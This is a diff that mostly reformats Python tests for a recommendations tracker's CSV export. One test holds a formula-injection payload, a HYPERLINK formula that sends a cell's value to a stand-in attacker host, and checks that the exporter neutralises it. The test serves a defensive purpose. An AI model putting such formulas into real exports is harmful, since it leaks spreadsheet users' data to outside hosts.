@@ -29,9 +29,18 @@ def test_a_row_a_recommendation_with_codes_whatever_the_language(data):
     wanted = ["id,title,status,direction,made,assessed", "themes", "permalink"]
     assert rows(render_csv(ask(data, "ru", columns=wanted))) == [
         ("id", "title", "status", "direction", "made", "assessed", "themes", "permalink"),
-        ("x", "Расширить программу", "not-implemented", "backward", "2024-02", "2025-03-04", "health; drug-policy", "https://tracker.example/r/x?lang=ru"),
+        (
+            "x",
+            "Расширить программу",
+            "not-implemented",
+            "backward",
+            "2024-02",
+            "2025-03-04",
+            "health; drug-policy",
+            "https://tracker.example/r/x?lang=ru",
+        ),
         ("y", "T", "not-assessed", "", "2024-03-28", "", "", "https://tracker.example/r/y?lang=ru"),
-    ]  # fmt: skip
+    ]
 
 
 def test_excel_is_told_that_it_is_utf_8_and_rows_end_as_the_standard_says(data):
@@ -61,9 +70,18 @@ def test_every_column_has_a_cell_for_every_recommendation(data):
     found = rows(render_csv(ask(data, columns=everything)))
     assert [len(row) for row in found] == [len(everything)] * 3
     told = dict(zip(everything, found[1], strict=True))
-    assert {name: told[name] for name in ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")} == {
-        "state_status": "implemented", "state_date": "2025", "claim_gap": "2", "evidence": "law", "evidence_count": "1", "stale": "yes", "checked": "2025-03-04",
-    }  # fmt: skip
+    assert {
+        name: told[name]
+        for name in ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")
+    } == {
+        "state_status": "implemented",
+        "state_date": "2025",
+        "claim_gap": "2",
+        "evidence": "law",
+        "evidence_count": "1",
+        "stale": "yes",
+        "checked": "2025-03-04",
+    }
 
 
 def test_filters_and_hand_picked_ids_work_on_it(data):
@@ -104,8 +122,10 @@ def test_a_title_that_is_a_formula_is_harmless_in_the_file(data):
     evil = replace(data.recommendations["x"], title=said('=HYPERLINK("http://evil.example?"&A1)'))
     there = replace(data, recommendations={"x": evil})
     assert rows(render_csv(ask(there, columns=["title", "claim_gap", "assessed"])))[1] == (
-        "'=HYPERLINK(\"http://evil.example?\"&A1)", "2", "2025-03-04",
-    )  # fmt: skip
+        '\'=HYPERLINK("http://evil.example?"&A1)',
+        "2",
+        "2025-03-04",
+    )
 
 
 def test_as_of_a_day_what_is_dated_later_is_left_out(data):
